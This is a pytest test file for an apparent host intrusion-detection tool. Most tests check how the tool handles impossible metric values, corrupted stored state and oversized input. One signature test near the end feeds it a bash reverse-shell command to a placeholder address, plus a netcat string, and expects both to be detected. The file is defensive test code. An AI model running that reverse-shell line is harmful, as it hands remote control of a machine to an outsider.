"""No snapshot and no stored state stops a host's detection: what can't be used costs one look, never the host."""

from collections.abc import Callable

import numpy as np
import pytest
from tests.detect.life import subjects
from tests.detect.wild import GROWN, MEMORY, WILD, later, play, vitals
from tests.fixtures.quiet_host import changed, quiet_snapshots

from vedette.core import Label, table_digest
from vedette.detect import Detector
from vedette.detect.behaviour.recent import Recent
from vedette.detect.behaviour.shelf import Shelf
from vedette.detect.behaviour.state import BehaviourState, Unlearned
from vedette.detect.hoststate import HostState, decode_state, encode_state
from vedette.detect.inventory.state import InventoryState, Watched
from vedette.detect.short import short
from vedette.detect.signature import deed
from vedette.detect.vitals.gauges import GAUGES
from vedette.detect.vitals.past import Past


@pytest.mark.no_cover
@pytest.mark.parametrize("value", WILD)
@pytest.mark.parametrize("name", ["x.y", MEMORY, "system.processes.count"])
def test_a_value_that_cannot_be_is_never_normal_and_leaves_no_trace(
    detector: Detector, grown_state: bytes, name: str, value: float
) -> None:
    snapshots = later(20)
    wild = [changed(snapshots[0], metrics={name: value}), *snapshots[1:]]
    answers, _ = play(detector, wild, grown_state)
    assert answers[0].label is not Label.NORMAL
    reason = next(r for r in answers[0].reasons if r.expert == "judge")
    assert reason.subject == f"metric:{name}"
    assert reason.text.startswith(f"Impossible value: {name} is ")
    assert {answer.label for answer in answers[1:]} == {Label.NORMAL}


@pytest.mark.no_cover
@pytest.mark.parametrize("value", WILD)
def test_a_host_that_begins_with_such_values_still_grows_up(
    detector: Detector, value: float
) -> None:
    snapshots = list(quiet_snapshots(GROWN))
    for at in range(10):
        wild = {"x.y": value, MEMORY: value, "system.cpu.utilization": -value}
        snapshots[at] = changed(snapshots[at], metrics=wild)
    answers, _ = play(detector, snapshots)
    assert not any(answer.label is Label.NORMAL for answer in answers[:10])
    assert answers[-1].label is Label.NORMAL


def test_a_gauge_that_stays_out_of_bounds_is_doubted_and_never_usual(
    detector: Detector, grown_state: bytes
) -> None:
    snapshots = [changed(s, metrics={MEMORY: 1e39}) for s in later(60)]
    answers, _ = play(detector, snapshots, grown_state)
    assert {answer.label for answer in answers} == {Label.UNKNOWN}


def test_many_values_that_cannot_be_are_told_in_few_words(
    detector: Detector, grown_state: bytes
) -> None:
    wild = {f"{'m' * 10_000}{n}": 1e40 for n in range(50)}
    answer = play(detector, [changed(later(1)[0], metrics=wild)], grown_state)[0][0]
    assert answer.label is Label.UNKNOWN
    assert "50 metrics have impossible values" in {r.text for r in answer.reasons}
    assert all(len(r.subject) <= 400 and len(r.text) <= 1_000 for r in answer.reasons)


def spoiled(detector: Detector, state: bytes, spoil: Callable[[HostState], object]) -> bytes:
    """The state with something in it that no learning leaves."""
    host = decode_state(state, detector.experts)
    spoil(host)
    host.kept = {name: e.dump(host.experts[name]) for name, e in detector.experts.items()}
    return encode_state(host)


def written(host: HostState) -> Past:
    """What vitals knows of the host, as arrays that may be written."""
    state = vitals(host)
    state.record = np.frombuffer(state.record, np.uint8).copy()
    return state.past()


def _bank(field: str, value: float) -> Callable[[HostState], object]:
    def spoil(host: HostState) -> None:
        banks = written(host).banks
        seat = banks.layout.seat[MEMORY]
        getattr(banks, field)[..., banks.layout.first == seat if field == "spread" else seat] = (
            value
        )

    return spoil


def _sample(value: float) -> Callable[[HostState], object]:
    def spoil(host: HostState) -> None:
        watches, gauge = written(host).watches, [g.metric for g in GAUGES].index(MEMORY)
        watches.sample[0, gauge, 0] = value
        watches.high[0, gauge] = value

    return spoil


@pytest.mark.no_cover
@pytest.mark.parametrize(
    "spoil",
    [
        *(_bank(field, np.inf) for field in ("filters", "mean", "low", "spread")),
        *(_bank(field, np.nan) for field in ("filters", "mean", "high", "spread", "age")),
        _bank("filters", 1e200),
        _sample(np.inf),
        _sample(np.nan),
    ],
)
def test_a_past_with_a_number_that_is_none_starts_anew_and_blinds_once(
    detector: Detector, grown_state: bytes, spoil: Callable[[HostState], object]
) -> None:
    answers, state = play(detector, later(30), spoiled(detector, grown_state, spoil))
    assert answers[0].label is Label.UNKNOWN
    assert subjects(answers[0]) == {"state:vitals"}
    assert MEMORY in answers[0].reasons[0].text
    assert {answer.label for answer in answers[1:]} == {Label.NORMAL}
    past = vitals(decode_state(state, detector.experts)).past()
    assert MEMORY in past.layout.names
    threads = [gauge.metric for gauge in GAUGES].index("system.threads.count")
    assert past.watches.seen[0, threads] == GROWN + 30


def _weighs_unknown_evidence(host: HostState) -> None:
    state = host.experts["inventory"]
    assert isinstance(state, InventoryState)
    state.idle.clear()
    state.watched["user"][7] = Watched("user:x", "x", "no-such-evidence", 0.0, 500, 5, 1.0)


def _weighs_without_end(host: HostState) -> None:
    state = host.experts["behaviour"]
    assert isinstance(state, BehaviourState)
    shape = next(iter(state.shapes))
    state.unlearned = {one: Unlearned(0.0, 1, float("inf")) for one in state.shapes}
    state.shapes, state.recent = Shelf({shape + 1: 1}), Recent()


def _cannot_learn(host: HostState) -> None:
    written(host).banks.scale[:] = 0.0


@pytest.mark.parametrize(
    ("expert", "spoil"),
    [
        ("inventory", _weighs_unknown_evidence),
        ("behaviour", _weighs_without_end),
        ("vitals", _cannot_learn),
    ],
)
def test_an_expert_whose_state_is_unusable_starts_anew_and_blinds_once(
    detector: Detector, grown_state: bytes, expert: str, spoil: Callable[[HostState], object]
) -> None:
    answers, _ = play(detector, later(5), spoiled(detector, grown_state, spoil))
    assert answers[0].label is Label.UNKNOWN
    assert subjects(answers[0]) == {f"state:{expert}"}
    assert "could not be used and starts anew" in answers[0].reasons[0].text
    assert {answer.label for answer in answers[1:]} == {Label.NORMAL}


@pytest.mark.parametrize("spoil", [_weighs_unknown_evidence, _cannot_learn])
def test_an_expert_that_starts_anew_needs_the_tables_that_came_by_digest(
    detector: Detector, grown_state: bytes, spoil: Callable[[HostState], object]
) -> None:
    by_digest = [
        changed(
            one,
            without=("users", "hash"),
            same={n: table_digest(one.tables[n]) for n in ("users", "hash")},
        )
        for one in later(2)
    ]
    whole = later(5)[2:]
    answers, _ = play(detector, [*by_digest, *whole], spoiled(detector, grown_state, spoil))
    assert [answer.needed for answer in answers] == [("hash", "users")] * 2 + [()] * 3
    labels = [answer.label for answer in answers]
    assert labels == [Label.UNKNOWN] * 2 + [Label.NORMAL] * 3


def test_a_late_snapshot_says_so_too_but_mends_nothing(
    detector: Detector, grown_state: bytes
) -> None:
    state = spoiled(detector, grown_state, _weighs_unknown_evidence)
    late = next(quiet_snapshots(1, first=GROWN))
    answers, after = play(detector, [late, *later(1)], state)
    assert answers[0].late
    assert answers[0].state is None
    assert "state:inventory" in subjects(answers[0])
    assert "state:inventory" in subjects(answers[1])
    assert after == answers[1].state


def test_thousands_of_metrics_make_no_large_state(detector: Detector) -> None:
    wide = {f"app.{n:04d}.{'x' * 200}": float(n) for n in range(2_000)}
    churn = [
        changed(s, metrics={f"pod.{s.seq}.{n}": 1.0 for n in range(300)})
        for s in quiet_snapshots(20, first=21)
    ]
    snapshots = [*(changed(s, metrics=wide) for s in quiet_snapshots(20)), *churn]
    state = play(detector, snapshots)[1]
    assert state is not None
    assert len(state) < 96_000
    names = vitals(decode_state(state, detector.experts)).layout.names
    assert len(names) == 64
    assert {gauge.metric for gauge in GAUGES} & set(snapshots[0].metrics) <= set(names)


def test_a_metric_with_a_boundless_name_gets_no_seat(
    detector: Detector, grown_state: bytes
) -> None:
    long = {f"{'n' * 10_000}{n}": 1.0 for n in range(40)}
    answers, state = play(detector, [changed(s, metrics=long) for s in later(3)], grown_state)
    assert answers[-1].label is Label.NORMAL
    assert len(state or b"") < 60_000


def test_a_deed_is_found_after_many_tools_and_long_commands_are_read_in_part() -> None:
    honest = "cat /etc/motd; " * 30
    assert deed(honest + "bash -i >& /dev/tcp/203.0.113.7/443") == "reverse"
    assert deed("nc " * 5_000) == "netcat"
    assert deed("x" * 1_000 + " /dev/tcp/203.0.113.7/443") == ""


def test_a_short_text_tells_long_ones_apart() -> None:
    one, other = (short("x" * 5_000 + end, 300) for end in "ab")
    assert len(one) == len(other) == 300
    assert one != other
    assert short("x" * 300, 300) == "x" * 300
